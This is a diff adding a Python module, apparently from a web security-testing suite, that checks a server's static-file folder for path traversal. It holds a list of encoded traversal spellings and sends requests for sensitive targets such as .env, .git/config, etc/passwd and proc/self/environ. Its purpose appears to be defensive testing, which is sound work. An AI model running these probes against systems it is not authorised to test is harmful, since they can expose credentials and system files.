@@ -1,0 +1,86 @@
+"""Ask for files outside of a folder that is served. Source: CWE-22; OWASP, Path Traversal."""
+
+from __future__ import annotations
+
+import posixpath
+import re
+import secrets
+from collections.abc import Iterator
+from urllib.parse import quote
+
+from gonogo.contract.base import Request
+from gonogo.contract.hostile import StaticFiles
+from gonogo.instruments.urls import below, target_of
+from gonogo.suites.security.experiments.asking import ask
+from gonogo.suites.security.observations.hosts import Climbed, Heard, StaticFolder
+from gonogo.targets.base import Target
+
+_ALIKE = ("-private", "_private", "-internal", "-secret", "-old", ".bak", "-backup", "2", "s", "~", "_files")
+"""What a neighbour's name has behind the folder's own."""
+_USUAL = (".env", ".git/config", "secret.txt", "config.yaml", "settings.py", "main.py", "app.py", "app.js")
+_USUAL_ROOT = ("etc/passwd", "etc/hostname", "proc/self/environ")
+_UP = 8
+_WAYS = {
+    "dots": "../",
+    "encoded dots": "%2e%2e/",
+    "half encoded dots": ".%2e/",
+    "encoded slashes": "..%2f",
+    "all encoded": "%2e%2e%2f",
+    "encoded twice": "%252e%252e%252f",
+    "backslashes": "..\\",
+    "encoded backslashes": "..%5c",
+    "semicolons": "..;/",
+    "doubled dots": "....//",
+}
+"""One step up, in each spelling."""
+
+
+def leave_the_folder(target: Target, static: StaticFiles) -> StaticFolder:
+    """Ask for the file, for one that is not there, and for what is not in the folder in every spelling."""
+    static = static.model_copy(update={"file": _named(target, static)})
+    folder = posixpath.dirname(static.file)
+    nothing = f"{folder}/{secrets.token_hex(6)}{posixpath.splitext(static.file)[1]}"
+    missing = [
+        _get(target, "a file that is not there", path) for path in (nothing, f"/{secrets.token_hex(6)}")
+    ]
+    plainly: dict[str, Heard] = {}
+    climbed = []
+    for how, path, place in _outside(static, folder):
+        if place not in plainly:
+            plainly[place] = _get(target, "plainly", quote(place))
+        climbed.append(Climbed(_get(target, how, path), plainly[place]))
+    control = _get(target, "a file of the folder", static.file)
+    return StaticFolder((control,), tuple(missing), tuple(climbed))
+
+
+def _named(target: Target, static: StaticFiles) -> str:
+    """Return the file's path, as the page that links to it has it where it changes."""
+    pattern = re.escape(static.file).replace(r"\*", r"[\w.-]+")
+    page = _get(target, "a page that links to it", static.page).body if "*" in static.file else ""
+    found = re.search(pattern, page)
+    return found[0] if found else static.file
+
+
+def _outside(static: StaticFiles, folder: str) -> Iterator[tuple[str, str, str]]:
+    """Give how, the path, and where that is when somebody resolves it first."""
+    base, name = posixpath.basename(folder), posixpath.basename(static.file)
+    near = [f"../{base}{end}/{name}" for end in _ALIKE] if base else []
+    near += [*static.beside, *(f"../{usual}" for usual in _USUAL)]
+    far = ["../" * _UP + path for path in _USUAL_ROOT]
+    for there in (*near, *far):
+        rest = there.replace("../", "")
+        steps, place = there.count("../"), posixpath.normpath(posixpath.join(folder or "/", there))
+        if not steps:
+            yield "by its name", f"{folder}/{rest}", f"/{rest}"
+        for how, up in _WAYS.items() if steps else ():
+            yield how, f"{folder}/{up * steps}{rest}", place
+        if steps == 1:
+            yield "no slash before the dots", f"{folder}../{rest}", place
+    for path in _USUAL_ROOT:
+        yield "an absolute path", f"{folder}//{path}", f"/{path}"
+        yield "an encoded absolute path", f"{folder}/%2f{path}", f"/{path}"
+
+
+def _get(target: Target, how: str, path: str) -> Heard:
+    whole = target_of(below(target.entry, "/")).rstrip("/") + path
+    return ask(target, Request(name="file", path="/"), how, path=whole)
